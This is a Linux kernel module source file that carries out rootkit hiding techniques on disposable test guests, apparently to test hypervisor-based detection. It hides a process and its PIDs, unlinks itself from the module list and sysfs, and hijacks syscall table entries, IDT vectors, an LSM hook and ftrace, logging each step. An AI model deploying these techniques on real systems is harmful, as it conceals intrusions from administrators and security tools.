// SPDX-License-Identifier: GPL-2.0
/*
 * What rootkits do to stay unseen, for guests that may be harmed. It does all
 * that it is told to while it is loaded and undoes nothing: the guest is lost.
 *
 *	task=NAME	take the first process of this name off the task list
 *	pids=1		and the numbers of its threads out of the PID namespace
 *	module=1	take this module off the module list
 *	sysfs=1		and its folder out of /sys/module
 *	syscall=N	point entry N of sys_call_table to a function of this module
 *	syscall_data=N	point entry N to memory that is no module's
 *	idt=N		point vector N of the interrupt table to this module
 *	lsm=1		hang a function of this module into a security hook
 *	ftrace=NAME	trace a function of the kernel's with one of this module
 *
 * Each thing done is a line of the log, "hvi-hide: WHAT".
 */
#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/init.h>
#include <linux/kobject.h>
#include <linux/lsm_hooks.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/slab.h>
#include <linux/version.h>
#include <asm/desc_defs.h>

#include "kernel.h"

static char *task;
module_param(task, charp, 0);
static bool pids;
module_param(pids, bool, 0);
static bool module;
module_param(module, bool, 0);
static bool sysfs;
module_param(sysfs, bool, 0);
static int syscall = -1;
module_param(syscall, int, 0);
static int syscall_data = -1;
module_param(syscall_data, int, 0);
static int idt = -1;
module_param(idt, int, 0);
static bool lsm;
module_param(lsm, bool, 0);
static char *ftrace;
module_param(ftrace, charp, 0);

/* The function that hooks lead to. */
static int hooked(void)
{
	return 0;
}

static int hide_task(void)
{
	rwlock_t *lock = (rwlock_t *)lookup("tasklist_lock");
	struct task_struct *p = find_process(task), *t;

	if (!p || !lock)
		return -ESRCH;
	write_lock_irq(lock);
	list_del_init(&p->tasks);
	if (pids) {
		for_each_thread(p, t) {
			idr_remove(&init_pid_ns.idr, t->pid);
			hlist_del_init_rcu(&t->pid_links[PIDTYPE_PID]);
		}
	}
	write_unlock_irq(lock);
	pr_info("hvi-hide: task %d%s\n", p->pid, pids ? " and its numbers" : "");
	return 0;
}

static int hook_syscall(int number, void *to)
{
	void **table = (void **)lookup("sys_call_table");
	unsigned long cr0, flags;

	if (!table || !to)
		return -ENOENT;
	cr0 = wp_off(&flags);
	WRITE_ONCE(table[number], to);
	wp_on(cr0, flags);
	pr_info("hvi-hide: syscall %d to %lx\n", number, (unsigned long)to);
	return 0;
}

static int hook_idt(void)
{
	gate_desc *gate = (gate_desc *)lookup("idt_table");
	unsigned long cr0, flags, to = (unsigned long)hooked;

	if (!gate || idt > 255)
		return -ENOENT;
	gate += idt;
	cr0 = wp_off(&flags);
	gate->offset_low = to;
	gate->offset_middle = to >> 16;
	gate->offset_high = to >> 32;
	wp_on(cr0, flags);
	pr_info("hvi-hide: vector %d to %lx\n", idt, to);
	return 0;
}

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 12, 0)
static struct security_hook_list hook;

static int hook_lsm(void)
{
	struct security_hook_heads *heads = (struct security_hook_heads *)lookup("security_hook_heads");
	unsigned long cr0, flags;

	if (!heads)
		return -ENOENT;
	hook.head = &heads->sb_umount;
	hook.hook.sb_umount = (void *)hooked;
	cr0 = wp_off(&flags);
	hlist_add_head_rcu(&hook.list, hook.head);
	wp_on(cr0, flags);
	pr_info("hvi-hide: security hook to %lx\n", (unsigned long)hooked);
	return 0;
}
#else
/* From 6.12 on hooks are static calls, in the kernel's text. */
static int hook_lsm(void)
{
	return -EOPNOTSUPP;
}
#endif

static struct ftrace_ops ops = { .func = (void *)hooked };

static int hook_ftrace(void)
{
	int err = ftrace_set_filter(&ops, ftrace, strlen(ftrace), 1);

	if (!err)
		err = register_ftrace_function(&ops);
	if (!err)
		pr_info("hvi-hide: ftrace of %s\n", ftrace);
	return err;
}

static void hide_module(void)
{
	struct mutex *lock = (struct mutex *)lookup("module_mutex");

	if (lock)
		mutex_lock(lock);
	list_del_rcu(&THIS_MODULE->list);
	if (lock)
		mutex_unlock(lock);
	pr_info("hvi-hide: module at %lx\n", (unsigned long)THIS_MODULE);
	if (sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
}

static int __init hide_init(void)
{
	int err = 0;

	if (task)
		err = hide_task();
	if (!err && syscall >= 0)
		err = hook_syscall(syscall, hooked);
	if (!err && syscall_data >= 0)
		err = hook_syscall(syscall_data, kzalloc(PAGE_SIZE, GFP_KERNEL));
	if (!err && idt >= 0)
		err = hook_idt();
	if (!err && lsm)
		err = hook_lsm();
	if (!err && ftrace)
		err = hook_ftrace();
	if (!err && module)
		hide_module();
	return err;
}
module_init(hide_init);

MODULE_DESCRIPTION("Hides processes, modules and hooks, for tests");
MODULE_LICENSE("GPL");
